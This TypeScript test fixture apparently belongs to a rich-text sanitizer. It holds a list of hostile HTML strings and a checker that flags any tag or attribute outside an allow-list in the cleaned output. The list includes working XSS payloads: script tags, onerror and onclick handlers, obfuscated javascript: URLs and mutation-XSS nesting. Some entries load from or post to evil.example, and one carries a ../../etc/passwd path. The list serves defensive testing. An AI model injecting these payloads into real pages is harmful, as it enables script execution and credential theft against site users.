/** Hostile HTML that the server's sanitizer, the browser's and the import parser each make harmless. */
export const dangerousHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1) on\nfocus=alert(1)>a</p>',
  '<b/onpointerenter=alert(1)>a</b>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" \u0001JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\nscr\tipt:alert(1)">a</a>',
  '<a href="java&#x0A;script&colon;alert(1)">a</a>',
  '<a href="&#106;&#97;vascript&#58;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="//evil.example/x">a</a>',
  '<a href="blob:https://evil.example/x">a</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/a.png 2x" data-file="x">',
  '<img data-file="../../etc/passwd" onload=alert(1)>',
  '<p style="background:url(https://evil.example/a.png);position:fixed">a</p>',
  '<p style="width:expression(alert(1))" class="fixed" id="root">a</p>',
  '<style>@import url(https://evil.example/a.css);</style>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x"></object>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<video src="https://evil.example/a" poster="javascript:alert(1)" onplay=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="<script>alert(1)</script>',
  '<a href="https://a.example" onclick=alert(1)',
  '<b><i><p><a href="javascript:alert(1)"><span onclick=alert(1)><div style="x">a</b></p>',
  '<constructor onclick=alert(1)>a</constructor><__proto__ onclick=alert(1)>b</__proto__>',
];

/**
 * What is dangerous in cleaned HTML: any tag, attribute or address that rich text has no use for. It has a list of
 * its own, so that a mistake in the allow-list isn't repeated here. Empty for harmless HTML.
 */
export function dangersIn(html: string): string[] {
  const harmlessTag =
    /^(?:p|br|hr|b|strong|i|em|u|s|del|sub|sup|ul|ol|li|h[1-6]|blockquote|pre|code|table|caption|colgroup|col|thead|tbody|tfoot|tr|td|th|img|span|div|a)$/;
  const harmlessAttribute =
    /^(?:alt|width|height|colspan|rowspan|start|data-latex|data-gap|data-file|data-import-ref|rel|target)$/;
  const dangers: string[] = [];
  const rest = html.replace(
    /<\/?([^\s<>]+)((?:\s[^\s="<>]+(?:="[^"]*")?)*)>/g,
    (_all, name: string, attributes: string) => {
      if (!harmlessTag.test(name)) dangers.push(name);
      for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g))
        if (!harmlessAttribute.test(attribute) && !(attribute === 'href' && /^https?:\/\//.test(value)))
          dangers.push(`${name} ${attribute}=${value}`);
      return '';
    },
  );
  // A bracket that isn't part of a well-formed tag could still begin one.
  if (/</.test(rest)) dangers.push(rest);
  return dangers;
}
